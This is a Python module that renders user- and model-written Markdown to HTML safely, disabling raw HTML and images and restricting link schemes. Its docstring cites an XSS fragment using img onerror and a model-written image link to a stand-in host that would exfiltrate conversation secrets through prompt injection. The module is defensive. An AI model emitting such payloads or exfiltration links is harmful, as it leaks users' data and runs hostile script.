"""Markdown from people and models to HTML, with one parser deciding what is code and what is safe.

markdown-it-py renders with raw HTML off, so every ``<`` anyone writes reaches the page as
``&lt;``, decided by the same parser that decides what is a code span (a second, hand-written
scanner disagreed with it once: ``\\```<img onerror=...>`` ran script). On top of CommonMark:

- images are off: a model-written ``![](https://evil.example/?q=secret)`` would load by itself
  and carry the conversation away (prompt-injection exfiltration); it renders as ``!`` and a link;
- a link's destination is judged by :func:`~dashboard.markup.links.judge_link` (http, https,
  mailto and same-site paths, parsed as a browser parses them) and written in that normalized
  form; anything else stays text. Links open in a new tab without ``window.opener`` or referrer;
- tables and ``~~strikethrough~~``; a single newline is a line break, as in chat.

Partial text (a streaming answer) renders like any other text: an unclosed fence is code to the
end, an unclosed code span is text.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any, Final

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from .links import WEB_SCHEMES, judge_link

#: Absolute schemes a Markdown link may use.
MARKDOWN_SCHEMES: Final = (*WEB_SCHEMES, "mailto:")
LINK_REL: Final = "noopener noreferrer nofollow"
#: ASCII punctuation: what CommonMark lets a backslash make literal.
_PUNCTUATION: Final = re.compile(r"([!-/:-@\[-`{-~])")


class _SafeMarkdown(MarkdownIt):
    """CommonMark whose links are judged by :func:`judge_link`.

    markdown-it calls :meth:`normalizeLink` on every destination (links, autolinks) and keeps
    the link only if :meth:`validateLink` accepts the result.
    """

    def normalizeLink(self, url: str) -> str:
        return judge_link(url, schemes=MARKDOWN_SCHEMES) or ""

    def validateLink(self, url: str) -> bool:
        return bool(url) and judge_link(url, schemes=MARKDOWN_SCHEMES) == url


def _link_open(
    renderer: RendererHTML,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    tokens[idx].attrSet("target", "_blank")
    tokens[idx].attrSet("rel", LINK_REL)
    return renderer.renderToken(tokens, idx, options, env)


def _build() -> MarkdownIt:
    options: Any = {"html": False, "linkify": False, "typographer": False, "breaks": True}
    md = _SafeMarkdown("commonmark", options)
    md.enable(["table", "strikethrough"])
    md.disable("image")
    md.add_render_rule("link_open", _link_open)
    return md


_MARKDOWN: Final = _build()


def render_markdown(text: str) -> str:
    """``text`` as HTML: CommonMark plus tables and strikethrough, no raw HTML, no images.

    Args:
        text: Markdown from anyone (a chat question, a model's answer, partial or whole).

    Returns:
        HTML that contains only markdown-it's own tags, every link judged by
        :func:`~dashboard.markup.links.judge_link` with ``target="_blank"`` and
        ``rel="noopener noreferrer nofollow"``.
    """
    return _MARKDOWN.render(text)


def markdown_literal(text: str) -> str:
    """``text`` as Markdown that shows exactly ``text`` (on one line): every ASCII punctuation
    character backslash-escaped, so nothing in it is emphasis, a link or a list.

    Not a safety measure (:func:`render_markdown` is safe whatever it gets), only for text that
    must be shown as written inside Markdown, such as an error message.

    Args:
        text: one line of plain text.

    Returns:
        Its Markdown source.
    """
    return _PUNCTUATION.sub(r"\\\1", text)
